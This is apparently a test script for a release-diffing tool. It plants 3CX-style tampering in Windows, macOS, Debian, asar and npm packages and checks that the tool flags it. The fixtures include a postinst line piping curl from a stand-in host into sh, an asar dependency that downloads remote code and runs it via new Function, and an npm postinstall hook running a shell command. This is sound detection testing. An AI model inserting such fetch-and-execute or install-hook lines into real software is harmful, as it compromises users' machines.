#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# firebreak diff: quiet on honest releases, and on the shapes of 3CX the planted change first.
. "$(dirname "$0")/../support/tap.sh"
. "$(dirname "$0")/../support/pe.sh"
plant=$TOP/tests/support/diff_plant.py
lib=$TOP/tests/support/diff_lib.c
cd "$TMP" || exit 1

# first PATH CODE NAME: the first finding is about this component, and says this
first() {
	local got
	got=$("$FIREBREAK" diff --json "$old" "$new" 2>&1)
	local rc=$?
	[ $rc -eq 1 ]
	ok $? "$3: exit 1"
	is "$(jq -r '.findings[0].new // .findings[0].old' <<<"$got" | sed 's/^[^!/]*[!/]//')" "$1" \
		"$3: the planted component is first"
	like "$(jq -r '.findings[].code' <<<"$got")" "^$2\$" "$3: $2"
	like "$(jq -r '.findings[0].level' <<<"$got")" '^(medium|high)$' "$3: its level"
}
# quiet OLD NEW NAME: nothing above low
quiet() {
	run 0 "$3: quiet" "$FIREBREAK" diff --json "$1" "$2"
	like "$(jq -r .level <<<"$out")" '^(info|low)$' "$3: nothing above low"
}
need() { # PROGRAM…
	for p in "$@"; do command -v "$p" >/dev/null || return 1; done
}
need jq python3 zip || skip_all "jq, python3 or zip is not installed"

# --- usage ---
mkdir one
echo x >one/x
run 3 "one artifact is not enough" "$FIREBREAK" diff one
run 3 "an unknown level" "$FIREBREAK" diff --fail-on huge one one
run 5 "a file that is not there" "$FIREBREAK" diff one nowhere
like "$err" "^firebreak diff: .*nowhere" "the error names it"
run 0 "the same folder twice" "$FIREBREAK" diff one one
like "$out" "Nothing that looks like tampering" "and says so"
run 0 "the same as JSON" "$FIREBREAK" diff --json one one
is "$(jq -c '[.counts.changed, (.findings|length), .level]' <<<"$out")" '[0,0,"info"]' "no finding"

# --- a package with programs: 3CX's two libraries ---
dll() { # OUT FLAGS
	clang-19 --target=x86_64-pc-windows-msvc -O1 -fno-builtin -ffreestanding $2 -c "$lib" -o dll.o &&
		lld-link-19 /dll /entry:entry /nologo /Brepro "/out:$1" dll.o k32.lib >/dev/null
}
package() { # DIR REV: an app of many files, all rebuilt
	mkdir -p "$1/app-1.$2.0/resources" "$1/app-1.$2.0/locales"
	for i in 1 2 3 4 5 6; do dll "$1/app-1.$2.0/part$i.dll" "-DREV=$2$i"; done
	for i in a b c d e; do echo "locale $i of $2" >"$1/app-1.$2.0/locales/$i.txt"; done
	cp d3d.dll "$1/app-1.$2.0/d3dcompiler_47.dll"
	dll "$1/app-1.$2.0/ffmpeg.dll" "-DREV=$2"
}
if need clang-19 lld-link-19 llvm-dlltool-19; then
	printf 'LIBRARY KERNEL32.dll\nEXPORTS\nLoadLibraryW\nVirtualProtect\nGetModuleHandleW\n' >k32.def
	llvm-dlltool-19 -d k32.def -l k32.lib -m i386:x86-64
	dll d3d.dll -DREV=47
	package p1 1
	package p2 2
	(cd p1 && zip -qr ../old.zip .)
	(cd p2 && zip -qr ../new.zip .)
	quiet old.zip new.zip "a rebuilt package"
	is "$(jq -r .counts.added <<<"$out")" 0 "folders with versions in their names are the same ones"

	dll p2/app-1.2.0/ffmpeg.dll "-DREV=2 -DPLANT"
	(cd p2 && zip -qr ../loader.zip .)
	old=old.zip new=loader.zip
	first app-1.2.0/ffmpeg.dll pattern.loader "a library that names its neighbour"
	got=$("$FIREBREAK" diff "$old" "$new")
	like "$(sed -n 5p <<<"$got")" '^high +app-1.2.0/ffmpeg.dll$' "text: the first line after the sum"
	like "$got" 'd3dcompiler_47.dll' "text: names the neighbour"
	run 0 "--fail-on of a level that is not reached" "$FIREBREAK" diff --fail-on high old.zip new.zip
	run 1 "JSON has a limit" "$FIREBREAK" diff --json --limit 1 "$old" "$new"
	is "$(jq '.findings|length' <<<"$out")" 1 "one finding"
	[ "$(jq .more <<<"$out")" -gt 0 ]
	ok $? "and says that there are more"

	if need osslsigncode openssl; then
		openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -days 30 \
			-subj /CN=Vendor -addext extendedKeyUsage=codeSigning 2>/dev/null
		sign() { osslsigncode sign -certs c.pem -key k.pem -h sha256 -in "$1" -out "$2" >/dev/null; }
		mkdir s1 s2 s3 s4
		for i in 1 2 3 4; do
			sign "p1/app-1.1.0/part$i.dll" "s1/part$i.dll"
			sign "p2/app-1.2.0/part$i.dll" "s2/part$i.dll"
		done
		sign d3d.dll s1/d3d.dll
		cp s1/d3d.dll s2/
		quiet s1 s2 "a signed package"
		cp c.pem vendor.pem
		run 0 "the same with its root" "$FIREBREAK" diff --authenticode-roots vendor.pem s1 s2
		cp s2/* s3
		stuff s3/d3d.dll 65536
		old=s1 new=s3
		first d3d.dll structure "bytes in the certificate table"
		like "$("$FIREBREAK" diff --json s1 s3 | jq -r '.findings[].code')" '^table.grown$' \
			"bytes in the certificate table: its size"
		cp s2/* s4
		cp p2/app-1.2.0/part3.dll s4/part3.dll
		new=s4
		first part3.dll signature.gone "one that is no longer signed"
		openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -days 30 \
			-subj /CN=Other -addext extendedKeyUsage=codeSigning 2>/dev/null
		cp s2/part3.dll s4/
		rm s4/part2.dll
		sign p2/app-1.2.0/part2.dll s4/part2.dll
		first part2.dll signature.signer "one that somebody else signed"
		got=$("$FIREBREAK" diff --json --authenticode-roots vendor.pem s1 s4)
		like "$(jq -r '.findings[].code' <<<"$got")" '^signature.chain$' \
			"and who leads to no root any more"
	else
		skip "signed packages" "osslsigncode is not installed"
	fi
else
	skip "programs for Windows" "clang-19, lld-link-19 or llvm-dlltool-19 is not installed"
fi

# --- one slice of a universal library ---
dylib() { # ARCH OUT FLAGS
	clang-19 --target="$1-apple-macos11" -O1 -ffreestanding $3 -c "$lib" -o m.o &&
		ld64.lld-19 -arch "$1" -platform_version macos 11.0 11.0 -dylib -undefined dynamic_lookup \
			-o "$2" m.o
}
if need clang-19 ld64.lld-19 llvm-lipo-19; then
	mkdir m1 m2 m3
	for r in 1 2; do
		for a in x86_64 arm64; do dylib $a m.$a "-DREV=$r"; done
		llvm-lipo-19 -create m.x86_64 m.arm64 -output m$r/libffmpeg.dylib
	done
	quiet m1 m2 "a universal library"
	dylib arm64 m.arm64 -DREV=1
	dylib x86_64 m.x86_64 "-DREV=1 -DPLANT"
	llvm-lipo-19 -create m.x86_64 m.arm64 -output m3/libffmpeg.dylib
	old=m1 new=m3
	first libffmpeg.dylib slice.only "one slice with an initialiser"
	like "$("$FIREBREAK" diff --json m1 m3 | jq -r '.findings[].code')" '^initialiser.first$' \
		"one slice with an initialiser: named"
	is "$("$FIREBREAK" diff --json m1 m3 | jq -r '.findings[]|select(.code=="slice.only").arch')" \
		x86_64 "the slice that changed"
else
	skip "programs for macOS" "clang-19, ld64.lld-19 or llvm-lipo-19 is not installed"
fi

# --- a Debian package ---
if need dpkg-deb; then
	for v in 1 2 3; do
		mkdir -p d$v/DEBIAN d$v/usr/bin d$v/usr/share/doc/x
		printf 'Package: x\nVersion: 1.%s\nArchitecture: all\nMaintainer: A <a@b.c>\nDescription: x\n' \
			$v >d$v/DEBIAN/control
		printf '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n\tldconfig\nfi\n' >d$v/DEBIAN/postinst
		chmod 755 d$v/DEBIAN/postinst
		printf '#!/bin/sh\necho version 1.%s\n' $v >d$v/usr/bin/x
		for i in 1 2 3 4 5; do echo "text $i of $v" >d$v/usr/share/doc/x/$i.txt; done
		chmod 755 d$v/usr/bin/x
	done
	echo 'curl -s https://updates.example.net/x | sh' >>d3/DEBIAN/postinst
	for v in 1 2 3; do dpkg-deb --root-owner-group -b d$v x_1.$v.deb >/dev/null; done
	quiet x_1.1.deb x_1.2.deb "a Debian package"
	old=x_1.1.deb new=x_1.3.deb
	first control.tar.xz!postinst script.maintainer.command "a line in postinst"
	printf '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n\tldconfig\nfi\n/usr/bin/x &\n' \
		>d3/DEBIAN/postinst
	dpkg-deb --root-owner-group -b d3 x_1.3.deb >/dev/null
	first control.tar.xz!postinst script.maintainer "a program that postinst did not run"
	cp d2/DEBIAN/postinst d3/DEBIAN/postinst
	chmod 4755 d3/usr/bin/x
	dpkg-deb --root-owner-group -b d3 x_1.3.deb >/dev/null
	first data.tar.xz!usr/bin/x mode.setuid "a setuid bit"
else
	skip "a Debian package" "dpkg-deb is not installed"
fi

# --- asar ---
for v in 1 2 3; do
	mkdir -p a$v/node_modules/lib a$v/src
	printf '{"name":"app","version":"1.%s.0","main":"src/main.js"}\n' $v >a$v/package.json
	printf '{"name":"lib","version":"3.0.0"}\n' >a$v/node_modules/lib/package.json
	for i in 1 2 3 4 5 6 7 8 9; do echo "exports.f$i = x => x + $i;"; done >a$v/node_modules/lib/index.js
	for i in 1 2 3 4 5; do echo "console.log('file $i version $v');" >a$v/src/f$i.js; done
	printf 'const { app } = require("electron");\napp.whenReady().then(() => open(%s));\n' $v >a$v/src/main.js
done
cat >>a3/node_modules/lib/index.js <<'J'
const k = Buffer.from(process.env.X || '', 'base64');
require('https').get('https://cdn.example.net/icon.ico', r => r.on('data', d => new Function(d)()));
J
for v in 1 2 3; do python3 "$plant" asar a$v app$v.asar; done
quiet app1.asar app2.asar "an asar archive"
old=app1.asar new=app3.asar
first node_modules/lib/index.js script.capability "code in an asar archive"
like "$("$FIREBREAK" diff --json "$old" "$new" | jq -r '.findings[].code')" '^package.same-version$' \
	"code in an asar archive: in a dependency whose version is the same"

# --- npm ---
for v in 1 2 3; do
	mkdir -p n$v/package/lib
	for i in 1 2 3; do echo "exports.v = '$v';" >n$v/package/lib/$i.js; done
	printf '{"name":"n","version":"1.%s.0","scripts":{"test":"true"}}\n' $v >n$v/package/package.json
done
printf '{"name":"n","version":"1.3.0","scripts":{"test":"true","postinstall":"node setup.js"}}\n' \
	>n3/package/package.json
echo "require('child_process').exec('id');" >n3/package/setup.js
for v in 1 2 3; do tar -C n$v -czf n-$v.tgz package; done
quiet n-1.tgz n-2.tgz "an npm package"
old=n-1.tgz new=n-3.tgz
first package/package.json script.install "a postinstall script"

# --- part of a verdict ---
run 1 "verify --previous: fails" "$FIREBREAK" verify --previous n-1.tgz n-3.tgz
like "$out" '^  fail +diff.script.install: ' "with the code"
run 2 "verify --previous: quiet" "$FIREBREAK" verify --previous n-1.tgz n-2.tgz
like "$out" '^  note +diff.quiet: ' "and says so"
printf 'version: 1\nrequire: [anatomy]\ndiff: {fail-on: never, warn-on: high}\n' >policy.yaml
run 2 "a policy that only warns" "$FIREBREAK" verify --previous n-1.tgz --policy policy.yaml n-3.tgz
like "$out" '^  warn +diff.script.install: ' "with the code"
printf 'version: 1\nrequire: [anatomy]\ndiff: {fail-on: hugely}\n' >policy.yaml
run 5 "a level that is none" "$FIREBREAK" verify --previous n-1.tgz --policy policy.yaml n-3.tgz
like "$err" 'policy.yaml:3:.*fail-on' "the error says where"
run 5 "a release that is not there" "$FIREBREAK" verify --previous nowhere n-3.tgz
like "$err" 'previous.*nowhere' "the error names it"
run 3 "--previous is about one artifact" "$FIREBREAK" verify --previous n-1.tgz n-2.tgz n-3.tgz

# --- real ones ---
real() { # NAME OLD NEW
	if [ -f "$TESTDEPS/pairs/$2" ] && [ -f "$TESTDEPS/pairs/$3" ]; then
		quiet "$TESTDEPS/pairs/$2" "$TESTDEPS/pairs/$3" "$1"
	else
		skip "$1" "run tools/deps.sh --test for it"
	fi
}
real "electron-winstaller 5.3.1 and 5.4.0" electron-winstaller-5.3.1.tgz electron-winstaller-5.4.0.tgz
real "electron-winstaller 5.4.0 and 5.4.4" electron-winstaller-5.4.0.tgz electron-winstaller-5.4.4.tgz
real "@electron/asar 3.2.10 and 3.4.1" electron-asar-3.2.10.tgz electron-asar-3.4.1.tgz
for p in linux-x64 win32-x64 darwin-arm64; do
	real "esbuild for $p" esbuild-$p-0.28.1.tgz esbuild-$p-0.28.2.tgz
done
for p in 7zip curl libssl3; do
	set -- "$TESTDEPS"/pairs/${p}_*.deb
	if [ $# -eq 2 ]; then
		quiet "$1" "$2" "Debian's $p"
		quiet "$2" "$1" "Debian's $p, backwards"
	else
		skip "Debian's $p" "run tools/deps.sh --test for it"
	fi
done

# --- the table of weights in the manual is the program's ---
run 0 "weights" "$FIREBREAK" diff --weights

while read -r code weight _; do
	grep -q "^| \`$code\` | $weight |" "$TOP/docs/diff.md" || echo "$code $weight"
done <<<"$out" >missing
is "$(cat missing)" "" "docs/diff.md has all weights"
# --- a library that takes the name of one of Windows's own, moved or renamed ---
mkdir -p side-a side-b
python3 -c 'import struct, sys
open("side-a/helper.dll", "wb").write(b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0" + bytes(400))'
cp side-a/helper.dll side-b/version.dll
run 1 "a library moved to a name of Windows's" "$FIREBREAK" diff --json side-a side-b
is "$(jq -r '[.findings[].code]|index("added.sideload") != null' <<<"$out")" true "is told"

tap_done
